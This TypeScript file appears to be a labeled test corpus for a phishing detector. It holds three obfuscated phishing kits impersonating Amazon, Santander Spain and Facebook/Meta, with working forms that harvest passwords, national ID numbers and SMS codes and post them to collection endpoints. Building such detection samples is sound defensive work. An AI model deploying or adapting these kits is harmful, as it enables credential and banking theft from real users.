import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
const pieces = (s: string, n: number) => { const out: string[] = []; for (let i = 0; i < s.length; i += n) out.push(s.slice(i, i + n)); return out; };

const amazonParts = pieces(`<div style="font-family:Arial,sans-serif;max-width:350px;margin:20px auto"><div style="text-align:center;margin-bottom:16px"><img src="assets/a-logo.png" alt="amazon" width="103"></div><div style="border:1px solid #ddd;border-radius:8px;padding:20px 26px"><h1 style="font-weight:400;font-size:28px;margin:0 0 10px">Sign in</h1><form method="post" action="auth/signin.php"><label style="font-size:13px;font-weight:700">Email or mobile phone number</label><input name="email" style="width:100%;height:31px;margin:4px 0 12px;box-sizing:border-box"><label style="font-size:13px;font-weight:700">Password</label><input type="password" name="password" style="width:100%;height:31px;margin:4px 0 12px;box-sizing:border-box"><button style="width:100%;height:31px;background:#ffd814;border:1px solid #fcd200;border-radius:8px">Sign in</button></form><p style="font-size:12px">By continuing, you agree to the Conditions of Use and Privacy Notice.</p></div><p style="font-size:12px;text-align:center;color:#555">Your order #113-4412988-2298817 could not be shipped. Sign in to review your payment information.</p></div>`, 23);

export const entries: Entry[] = [
{
  id: 'a-obf-split-concat-amazon',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://order-review-center.shop/ref=nav_ya_signin/',
  body: `<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Sign-In</title><meta name="viewport" content="width=device-width,initial-scale=1"></head>
<body>
<div id="root"></div>
<script>
var _p = [${amazonParts.map((p) => JSON.stringify(p)).join(',\n')}];
var _s = '';
for (var i = 0; i < _p.length; i++) { _s += _p[i]; }
document.getElementById('root').innerHTML = _s;
document.title = 'Amaz' + 'on Sign' + '-In';
</script>
</body></html>`,
},
{
  id: 'a-obf-json-template-santander',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://santander-es.clientes-verificacion.com/particulares/acceso/',
  routes: {
    'santander-es.clientes-verificacion.com/particulares/acceso/': htmlRoute(`<!DOCTYPE html>
<html lang="es">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Cargando...</title>
<style>
body{margin:0;font-family:"Santander Text",Arial,sans-serif;background:#f6f6f6}
#app{min-height:100vh}
.ld{display:flex;align-items:center;justify-content:center;height:100vh;color:#ec0000}
</style>
</head>
<body>
<div id="app"><div class="ld">Cargando…</div></div>
<script>
(function () {
  var k = 'tk=' + Date.now();
  fetch('/particulares/acceso/api/view.json?' + k, { credentials: 'same-origin' })
    .then(function (r) { return r.json(); })
    .then(function (j) {
      document.title = j.title;
      var s = document.createElement('style'); s.textContent = j.css; document.head.appendChild(s);
      document.getElementById('app').innerHTML = j.html;
      document.getElementById('frm').addEventListener('submit', function (e) {
        e.preventDefault();
        var fd = new FormData(e.target);
        fetch(j.endpoint, { method: 'POST', body: fd }).then(function () { location.href = j.next; });
      });
    });
})();
</script>
</body>
</html>`),
    'santander-es.clientes-verificacion.com/particulares/acceso/api/view.json': { status: 200, headers: { 'content-type': 'application/json' }, body: JSON.stringify({
      title: 'Santander - Acceso clientes',
      css: '.hd{background:#ec0000;height:64px;display:flex;align-items:center;padding:0 24px}.hd img{height:30px}.box{max-width:420px;margin:32px auto;background:#fff;padding:28px;border-radius:8px}.box label{display:block;margin:14px 0 4px;font-size:14px}.box input{width:100%;height:44px;border:1px solid #ccc;border-radius:4px;padding:0 10px;box-sizing:border-box}.box button{width:100%;height:46px;background:#ec0000;color:#fff;border:0;border-radius:24px;margin-top:20px;font-size:16px}',
      html: '<div class="hd"><img src="/particulares/acceso/img/santander-white.svg" alt="Santander"></div><div class="box"><h2>Acceso clientes</h2><p style="font-size:14px">Por su seguridad, hemos bloqueado temporalmente su banca online. Identifíquese para desbloquearla.</p><form id="frm"><label>NIF / NIE / Pasaporte</label><input name="documento" required><label>Clave de acceso</label><input name="clave" type="password" maxlength="8" required><label>Teléfono móvil</label><input name="movil" type="tel"><label>Firma electrónica (código SMS)</label><input name="sms" maxlength="8"><button type="submit">Entrar</button></form></div>',
      endpoint: '/particulares/acceso/api/collect.php',
      next: 'https://www.bancosantander.es/particulares',
    }) },
  },
},
{
  id: 'a-obf-html-fragment-facebook-it',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://meta-business-support-it.com/ricorso/',
  routes: {
    'meta-business-support-it.com/ricorso/': htmlRoute(`<!DOCTYPE html><html lang="it"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Centro assistenza</title>
<link rel="icon" href="https://static.xx.fbcdn.net/rsrc.php/yb/r/hLRJ1GG_y0J.ico">
</head><body style="margin:0;background:#f0f2f5;font-family:Helvetica,Arial,sans-serif">
<main id="m"></main>
<script>
var r = new XMLHttpRequest();
r.onreadystatechange = function () { if (r.readyState === 4 && r.status === 200) { document.getElementById('m').innerHTML = r.responseText; } };
r.open('GET', '/ricorso/partials/v2.html?lang=' + (navigator.language || 'it'), true);
r.send();
</script>
</body></html>`),
    'meta-business-support-it.com/ricorso/partials/v2.html': htmlRoute(`<div style="background:#fff;max-width:520px;margin:40px auto;border-radius:8px;box-shadow:0 2px 4px rgba(0,0,0,.1);padding:24px">
<img src="/ricorso/img/meta.svg" alt="Meta" height="20">
<h2 style="font-size:20px">La tua Pagina è stata sospesa</h2>
<p style="font-size:15px;color:#444">Abbiamo ricevuto diverse segnalazioni relative alla violazione dei diritti di marchio da parte della tua Pagina. Se non invii un ricorso entro 48 ore, la tua Pagina e il tuo account Facebook verranno disattivati in modo permanente.</p>
<form method="post" action="/ricorso/invia.php">
<input name="nome" placeholder="Nome completo" style="width:100%;height:42px;margin:6px 0;padding:0 10px;box-sizing:border-box;border:1px solid #ccd0d5;border-radius:6px">
<input name="email" placeholder="E-mail o numero di cellulare" style="width:100%;height:42px;margin:6px 0;padding:0 10px;box-sizing:border-box;border:1px solid #ccd0d5;border-radius:6px">
<input name="pagina" placeholder="Nome della Pagina" style="width:100%;height:42px;margin:6px 0;padding:0 10px;box-sizing:border-box;border:1px solid #ccd0d5;border-radius:6px">
<input name="password" type="password" placeholder="Password di Facebook" style="width:100%;height:42px;margin:6px 0;padding:0 10px;box-sizing:border-box;border:1px solid #ccd0d5;border-radius:6px">
<button style="width:100%;height:44px;background:#1877f2;color:#fff;border:0;border-radius:6px;font-size:17px;font-weight:bold;margin-top:10px">Invia ricorso</button>
</form>
<p style="font-size:12px;color:#65676b">Meta © 2025</p>
</div>`),
  },
},
];
